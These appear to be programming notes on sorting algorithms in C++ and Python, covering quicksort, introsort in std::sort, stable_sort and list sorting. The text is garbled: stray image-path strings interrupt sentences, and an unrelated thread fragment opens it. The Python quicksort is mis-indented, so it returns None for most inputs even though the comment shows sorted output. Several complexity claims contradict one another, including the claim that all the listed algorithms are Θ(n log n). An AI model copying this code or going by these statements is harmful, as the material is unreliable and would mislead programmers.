int main()std::thread t1(producer);
  std::thread t2(consumer);
  return 0;


The Jonathan Boccara CppCon 105 STL Algorithms in Less Than an Hour is well worth a watch for a quick overview.


Quicksort is the poster boy of sorting algorithms.

The time complexity of quicksort is O(nlog(n)). This means that it has a time complexity of O(n^2) in the worst case scenario, but is usually much faster than other sorting algorithms like insertion sort and bubble sort.

Below is a Python implementation just for fun. But how is it implemented in C++?

def quicksort(arr):
    if len(arr) <= 1:
        return arr
        pivot = arr[len(arr) // 2]
        left = [x for x in arr if x < pivot]
        middle = [x for x in arr if x == pivot]
        right = [x for x in arr if x > pivot]
        return quicksort(left) + middle + quicksort(right)

# Sample input
arr = [3, 6, 8, 10, 1, 2, 1]# Sample output
print(quicksort(arr)) # [1, 1, 2, 3, 6, 8, 10]

std::sort uses Introsort

Introsort is a hybrid sorting algorithm that combines the best aspects of both quicksort and heapsort. It is usually the default sorting algorithm used in the C++ Standard Template Library (STL). Introsort begins by sorting the data with quicksort. If the quicksort algorithm fails to make sufficient progress, it switches to heapsort. Introsort can also be tuned to switch to heapsort earlier to reduce the risk of quicksort’s worst-case performance. Introsort terminates when the data is sorted or the maximum recursion depth is reached. Introsort is an efficient and robust sorting algorithm with an average-case complexity of O(n log n).

Introsort is in place but not stable: i.e., equivalent elements are not guaranteed to remain in the same order. However, the Standard Library offers stable_ versions of various sorting algorithms.

If additional memory is available, stable_sort remains O(n ∗ logn). However, if it fails to allocate, it will degrade to an O(n ∗ logn ∗ logn) algorithm.


Small array threshold

The threshold for switching to insertion sort varies for each compiler.


std::sort requires random access to the elements, so std::list has its own sort method, but it still(approximately) conforms to O(n log n). It can be implemented with merge sort as moving elements is cheap with a linked list.

Other sorting algorithms

Considerations for choosing an algorithm: size of input, Type of input: e.g., partially sorted, random.

The complexities of various sorting algorithms can vary greatly depending on the algorithm used and the complexity of thedata being sorted. Generally speaking, the most common sorting algorithms have the following complexities:

Bubble Sort: O(n²) Selection Sort: O(n²) Insertion Sort: O(n²) Merge Sort: O(nlogn) Quick Sort: O(nlogn) Heap Sort: O(nlogn)

As you can see, Merge Sort and Quick Sort are the most efficient algorithms, as they have the lowest complexity, followed by Heap Sort. Bubble Sort and Selection Sort are the least efficient algorithms, as they have the highest complexity.

All of these are Θ(n log n) in allcases apart from Timsort has a Ω(n) and Quicksort has a terrible O(n^2) (if we happen to always pick the worst pivot).Quicksort is a good all rounder with O(n log n) average case. But it does have a O(n^2) worst case. It is said that this can be avoided by picking the pivot carefully but an example couldbe constructed where thechosen pivot is always the worst case.